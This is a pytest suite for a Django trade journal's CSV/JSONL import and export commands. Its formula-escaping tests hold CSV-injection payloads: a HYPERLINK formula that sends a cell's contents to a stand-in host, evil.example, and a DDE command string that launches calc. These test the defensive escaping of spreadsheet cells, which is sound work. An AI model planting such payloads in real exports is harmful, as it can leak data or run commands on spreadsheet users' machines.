"""import_trades and export_trades: bad files refused with line, field and reason."""

import csv
import io
import json
from datetime import datetime, timedelta

import pytest
from django.core.management import CommandError, call_command
from django.db import connection

from journal.domain.trade_record import FIELDS
from journal.models import Trade
from journal.write.exports import EXPORT_COLUMNS
from tests.journal.conftest import open_trade_data, trade_data

pytestmark = pytest.mark.django_db

HEADER = ",".join(FIELDS)


def csv_text(rows: list[dict], header=FIELDS) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    for row in rows:
        writer.writerow(
            [json.dumps(row[f]) if isinstance(row.get(f), dict) else row.get(f, "") for f in header]
        )
    return out.getvalue()


def later(data: dict) -> str:
    return (datetime.fromisoformat(data["executed_at"]) + timedelta(hours=9)).isoformat()


def run_import(path, *args) -> str:
    out = io.StringIO()
    call_command("import_trades", str(path), "--no-progress", *args, stdout=out)
    return out.getvalue()


def refused(path, *args) -> str:
    out = io.StringIO()
    with pytest.raises(CommandError) as info:
        call_command("import_trades", str(path), "--no-progress", *args, stdout=out)
    assert not Trade.objects.exists(), "a refused file must commit nothing"
    return f"{info.value}\n{out.getvalue()}"


@pytest.fixture
def good_csv(tmp_path):
    path = tmp_path / "trades.csv"
    path.write_text(csv_text([trade_data() for _ in range(5)] + [open_trade_data()]))
    return path


@pytest.mark.smoke
def test_a_csv_file_is_imported_and_reimporting_changes_nothing(good_csv):
    report = run_import(good_csv)
    assert "read 6 row(s) from trades.csv" in report
    assert "6 created, 0 duplicate(s)" in report
    assert run_import(good_csv).endswith("0 created, 6 duplicate(s), 0 closed\n")
    assert Trade.objects.count() == 6


def test_postgres_imports_through_copy(good_csv):
    assert connection.vendor == "postgresql"
    assert "(fast_copy)" in run_import(good_csv)  # plainly spelled: checked in SQL
    assert Trade.objects.count() == 6


@pytest.mark.smoke
def test_json_lines_are_imported(tmp_path):
    path = tmp_path / "trades.jsonl"
    path.write_text("\n".join(json.dumps(trade_data()) for _ in range(3)) + "\n\n")
    assert "3 created" in run_import(path)


@pytest.mark.smoke
def test_dry_run_counts_and_commits_nothing(good_csv):
    assert "dry run, nothing committed: would have read 6" in run_import(good_csv, "--dry-run")
    assert not Trade.objects.exists()


@pytest.mark.smoke
@pytest.mark.parametrize(
    ("row", "line_field_reason"),
    [
        ({"executed_at": "2026-13-45T00:00:00Z"}, "line 3: executed_at: must be an ISO 8601"),
        ({"quantity": "-2"}, "line 3: quantity: must be greater than 0"),
        ({"side": "up"}, "line 3: side: must be long or short"),
    ],
)
def test_a_bad_row_refuses_the_whole_file(tmp_path, row, line_field_reason):
    path = tmp_path / "bad.csv"
    path.write_text(csv_text([trade_data(), trade_data(**row), trade_data()]))
    text = refused(path)
    assert line_field_reason in text
    assert "1 of 3 row(s) invalid; nothing was imported" in text


@pytest.mark.smoke
@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"", "line 1: the file is empty"),
        (HEADER.replace("symbol,", "").encode() + b"\n", "missing required column(s) symbol"),
        (HEADER.encode() + b",symbol\n", "column 'symbol' appears twice"),
        (b"trade_id,colour\n", "unknown column(s) 'colour'"),
        (
            HEADER.encode() + b"\nT1,2026-03-02T09:00:00Z,,EUR\xffUSD,long,1,1.1" + b"," * 10,
            "line 2: not UTF-8 text (byte 0xff at column 29)",
        ),
    ],
)
def test_a_malformed_file_is_refused_naming_line_and_reason(tmp_path, content, expected):
    path = tmp_path / "bad.csv"
    path.write_bytes(content)
    assert expected in refused(path)


@pytest.mark.smoke
def test_a_one_megabyte_field_is_refused(tmp_path):
    path = tmp_path / "huge.csv"
    huge = trade_data(signals=None)
    huge["strategy"] = "x" * 1_000_000
    path.write_text(csv_text([trade_data(), huge]))
    assert "line 3: unreadable CSV (field larger than field limit" in refused(path)


@pytest.mark.smoke
def test_skip_invalid_imports_the_rest_and_reports_what_it_skipped(tmp_path):
    path = tmp_path / "mixed.csv"
    path.write_text(csv_text([trade_data(), trade_data(side="up"), trade_data()]))
    report = run_import(path, "--skip-invalid")
    assert "skipped 1 invalid row(s):" in report
    assert "line 3: side: must be long or short" in report
    assert "2 created" in report
    assert Trade.objects.count() == 2


@pytest.mark.smoke
def test_an_import_completes_open_trades(tmp_path):
    opened = open_trade_data(trade_id="OPEN-9")
    (tmp_path / "a.csv").write_text(csv_text([opened]))
    run_import(tmp_path / "a.csv")
    closed = {**opened, "closed_at": later(opened), "exit_price": "1.2", "pnl": "10"}
    (tmp_path / "b.csv").write_text(csv_text([closed]))
    assert "1 closed" in run_import(tmp_path / "b.csv")
    assert Trade.objects.get(trade_id="OPEN-9").status == "closed"


@pytest.mark.smoke
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_export_round_trips_through_import(tmp_path, good_csv, fmt):
    run_import(good_csv)
    before = list(Trade.objects.order_by("trade_id").values_list(*FIELDS))
    exported = tmp_path / f"out.{fmt}"
    call_command(
        "export_trades", "--format", fmt, "-o", str(exported), "--no-progress", stderr=io.StringIO()
    )
    Trade.objects.all().delete()
    assert "6 created" in run_import(exported)
    assert list(Trade.objects.order_by("trade_id").values_list(*FIELDS)) == before


@pytest.mark.smoke
def test_export_filters_and_writes_to_stdout(good_csv):
    run_import(good_csv)
    out = io.StringIO()
    call_command(
        "export_trades", "--status", "open", "--no-progress", stdout=out, stderr=io.StringIO()
    )
    lines = out.getvalue().strip().splitlines()
    assert lines[0] == ",".join(EXPORT_COLUMNS)  # the record, its figures, its review
    assert lines[0].startswith(HEADER + ",")
    assert len(lines) == 2 and ",open," not in lines[1]  # status is not a format column


def test_an_export_that_fails_halfway_leaves_no_partial_file(tmp_path, good_csv):
    """A row the application cannot read (written past it, from an SQL console) breaks
    the export mid-stream: the output file is not left half-written, and an earlier
    export of the same name is left as it was."""
    from django.db import connection

    run_import(good_csv)
    with connection.cursor() as cursor:
        cursor.execute(
            "UPDATE journal_trade SET signals = (repeat('[', 3000) || repeat(']', 3000))::jsonb "
            "WHERE trade_id = (SELECT max(trade_id) FROM journal_trade)"
        )
    output = tmp_path / "trades.csv"
    output.write_text("yesterday's export\n")
    with pytest.raises(RecursionError):
        call_command("export_trades", "-o", str(output), "--no-progress", stderr=io.StringIO())
    assert output.read_text() == "yesterday's export\n"
    assert [p.name for p in tmp_path.iterdir()] == ["trades.csv"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "'=already quoted",
    "'plain apostrophe",
    "'",
]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_formula_text_is_exported_safe_and_round_trips_exactly(tmp_path, fmt):
    """OWASP CSV injection: text cells starting with = + - @ are written with a leading
    apostrophe (read as text by spreadsheets); the import takes it off again."""
    from journal.write.capture import record_trades
    from tests.journal.conftest import trade_data

    record_trades(
        [
            trade_data(trade_id=f"F{n}", strategy=text, account=text, broker_order_id=text[:64])
            for n, text in enumerate(FORMULAS)
        ]
    )
    before = list(Trade.objects.order_by("trade_id").values_list(*FIELDS))
    exported = tmp_path / f"out.{fmt}"
    call_command(
        "export_trades", "--format", fmt, "-o", str(exported), "--no-progress", stderr=io.StringIO()
    )
    if fmt == "csv":
        import csv as csv_module

        rows = list(csv_module.DictReader(exported.open(encoding="utf-8")))
        for row in rows:
            for field in ("strategy", "account", "broker_order_id"):
                assert not row[field].startswith(("=", "+", "-", "@")), row[field]
        assert {row["strategy"] for row in rows} >= {
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
            "''plain apostrophe",
        }
    Trade.objects.all().delete()
    run_import(exported)
    assert list(Trade.objects.order_by("trade_id").values_list(*FIELDS)) == before


def test_the_admin_export_is_spreadsheet_safe_too(client, django_user_model):
    from journal.write.capture import record_trades
    from tests.journal.conftest import trade_data

    record_trades([trade_data(strategy='=HYPERLINK("x")', account="+cmd|' /C calc'!A0")])
    admin_user = django_user_model.objects.create_superuser("root", password="x")
    client.force_login(admin_user)
    body = b"".join(client.get("/admin/journal/trade/export.csv").streaming_content).decode()
    assert ",'=HYPERLINK" in body.replace('"', "") and "'+cmd" in body
    assert ",=HYPERLINK" not in body.replace('"', "")


# -- exports in plain decimals (issue 26, item 12) ------------------------------------------


def test_an_export_writes_plain_decimals_and_re_imports_by_the_fast_path(tmp_path):
    """PostgreSQL gives a stored zero back as Decimal('0E-8'), which str() wrote into
    the file; the import's fast path rightly declines it, so the export's own file went
    the slow way. Decimals are plain, at the instrument's decimals where exact."""
    from journal.instruments import forget, instruments_seed
    from journal.write.capture import record_trades

    instruments_seed()
    forget()
    record_trades(
        [
            trade_data(trade_id="ZERO-FEES", fees="0", pnl="675", quantity="1.5"),
            trade_data(
                trade_id="US-OFF-TICK",
                symbol="US500",
                quantity="1",
                entry_price="5711.123",
                exit_price="5720",
                fees="0",
                pnl="0",
            ),
            trade_data(trade_id="NO-INSTRUMENT", symbol="ES=F", quantity="0.00000001", fees="0"),
            open_trade_data(trade_id="OPEN-ZERO", fees="0", confidence="0.5"),
        ]
    )
    for fmt in ("csv", "jsonl"):
        path = tmp_path / f"out.{fmt}"
        call_command(
            "export_trades", "--format", fmt, "-o", str(path), "--no-progress", stderr=io.StringIO()
        )
        text = path.read_text()
        assert "E-" not in text and "E+" not in text, text  # never scientific notation
        if fmt == "csv":
            rows = {row["trade_id"]: row for row in csv.DictReader(io.StringIO(text))}
        else:
            rows = {row["trade_id"]: row for row in map(json.loads, text.splitlines())}
        zero = rows["ZERO-FEES"]
        # EURUSD: prices with five decimals, lots with two, USD with two.
        assert (zero["entry_price"], zero["exit_price"]) == ("1.08450", "1.08900")
        assert (zero["quantity"], zero["fees"], zero["pnl"]) == ("1.50", "0.00", "675.00")
        off = rows["US-OFF-TICK"]
        assert (off["entry_price"], off["exit_price"], off["pnl"]) == (
            "5711.123",
            "5720.00",
            "0.00",
        )
        plain = rows["NO-INSTRUMENT"]  # no instrument: the digits it has, no padding
        assert (plain["quantity"], plain["fees"], plain["entry_price"]) == (
            "0.00000001",
            "0",
            "1.0845",
        )
        assert rows["OPEN-ZERO"]["confidence"] == "0.5" and rows["OPEN-ZERO"]["pnl"] in ("", None)
    before = list(Trade.objects.order_by("trade_id").values_list(*FIELDS))
    Trade.objects.all().delete()
    report = run_import(tmp_path / "out.csv")
    assert "(fast_copy)" in report and "4 created" in report, report
    assert list(Trade.objects.order_by("trade_id").values_list(*FIELDS)) == before
